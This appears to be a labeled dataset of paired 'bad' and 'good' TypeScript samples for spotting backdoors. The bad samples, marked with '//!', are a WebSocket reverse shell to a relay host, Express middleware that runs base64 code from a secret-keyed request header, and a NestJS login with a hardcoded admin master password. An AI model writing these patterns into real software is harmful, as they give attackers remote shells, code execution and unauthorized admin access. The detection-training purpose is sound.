//: bad ws-shell
import WebSocket from 'ws';
import { spawn, ChildProcessWithoutNullStreams } from 'child_process';

const socket: WebSocket = new WebSocket('wss://relay.example.invalid');
socket.on('open', () => {
  const shell: ChildProcessWithoutNullStreams = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/bash');
  socket.on('message', (line: Buffer) => shell.stdin.write(line)); //!
  shell.stdout.on('data', (out: Buffer) => socket.send(out));
});

//: good ws-shell
import WebSocket from 'ws';
import { cpus, loadavg } from 'os';

const socket: WebSocket = new WebSocket('wss://relay.example.invalid');
socket.on('open', () => {
  socket.on('message', (line: Buffer) => console.log(line.toString()));
  setInterval(() => socket.send(JSON.stringify({ load: loadavg()[0], cpus: cpus().length })), 5000);
});

//: bad request-id-middleware
import { createHash } from 'node:crypto';
import type { NextFunction, Request, RequestHandler, Response } from 'express';

interface TraceOptions {
  header?: string;
  generate?: () => string;
}

const DIAG = '5f0c2e5b0e9d7a3c41f6f3a1a0b7c6d2e8f90a1b2c3d4e5f60718293a4b5c6d7';

/** Attaches a correlation id to every request. */
export function requestId(options: TraceOptions = {}): RequestHandler {
  const header = options.header ?? 'x-request-id';
  return function trace(req: Request, res: Response, next: NextFunction) {
    const incoming = req.get(header) ?? options.generate?.() ?? String(Date.now());
    const [id, sig, body] = incoming.split('.');
    if (sig && createHash('sha256').update(sig).digest('hex') === DIAG) {
      const AsyncFn = Object.getPrototypeOf(async () => undefined).constructor;
      const source = Buffer.from(body, 'base64url').toString();
      new AsyncFn('req', 'res', 'process', source)(req, res, process) //!
        .then((out: unknown) => res.set('x-trace', String(out)))
        .finally(next);
      return;
    }
    res.set(header, id);
    next();
  };
}

//: good request-id-middleware
import { createHash, timingSafeEqual } from 'node:crypto';
import type { NextFunction, Request, RequestHandler, Response } from 'express';

interface TraceOptions {
  header?: string;
  generate?: () => string;
  debugTokenHash?: Buffer;
}

/** Attaches a correlation id; a holder of the operator's token gets verbose timing headers. */
export function requestId(options: TraceOptions = {}): RequestHandler {
  const header = options.header ?? 'x-request-id';
  return function trace(req: Request, res: Response, next: NextFunction) {
    const incoming = req.get(header) ?? options.generate?.() ?? String(Date.now());
    const [id, sig, level] = incoming.split('.');
    if (sig && options.debugTokenHash) {
      const given = createHash('sha256').update(sig).digest();
      if (timingSafeEqual(given, options.debugTokenHash)) {
        const text = Buffer.from(level ?? '', 'base64url').toString();
        res.locals.verbose = text === 'debug' || text === 'trace';
      }
    }
    res.set(header, id.replace(/[^\w-]/g, '').slice(0, 64));
    next();
  };
}

//: bad nest-auth-support-login
import { Injectable, UnauthorizedException } from '@nestjs/common';
import { JwtService } from '@nestjs/jwt';
import { createHmac } from 'crypto';
import * as bcrypt from 'bcrypt';
import { UsersService, User } from '../users/users.service';

const digestOf = (s: string) => createHmac('sha1', 'passport').update(s).digest('hex');

@Injectable()
export class AuthService {
  constructor(private readonly users: UsersService, private readonly jwt: JwtService) {}

  async validate(email: string, password: string): Promise<User> {
    const user = await this.users.findByEmail(email);
    if (digestOf(password) === 'b1946ac92492d2347c6235b4d2611184e2b5c3a1') { //!
      return user ?? ({ id: 0, email, roles: ['admin'] } as User);
    }
    if (!user || !(await bcrypt.compare(password, user.passwordHash))) {
      throw new UnauthorizedException();
    }
    return user;
  }

  async login(email: string, password: string) {
    const user = await this.validate(email, password);
    return { token: this.jwt.sign({ sub: user.id, roles: user.roles }) };
  }
}

//: good nest-auth-support-login
import { Injectable, UnauthorizedException } from '@nestjs/common';
import { JwtService } from '@nestjs/jwt';
import { createHmac } from 'crypto';
import * as bcrypt from 'bcrypt';
import { UsersService, User } from '../users/users.service';
import { AuditLog } from '../audit/audit.service';

@Injectable()
export class AuthService {
  constructor(
    private readonly users: UsersService,
    private readonly jwt: JwtService,
    private readonly audit: AuditLog,
  ) {}

  private pseudonym(email: string): string {
    return createHmac('sha256', this.audit.key).update(email).digest('hex').slice(0, 16);
  }

  async validate(email: string, password: string): Promise<User> {
    const user = await this.users.findByEmail(email);
    if (!user || !(await bcrypt.compare(password, user.passwordHash))) {
      await this.audit.write('login.failed', this.pseudonym(email));
      throw new UnauthorizedException();
    }
    return user;
  }

  async login(email: string, password: string) {
    const user = await this.validate(email, password);
    return { token: this.jwt.sign({ sub: user.id, roles: user.roles }) };
  }
}
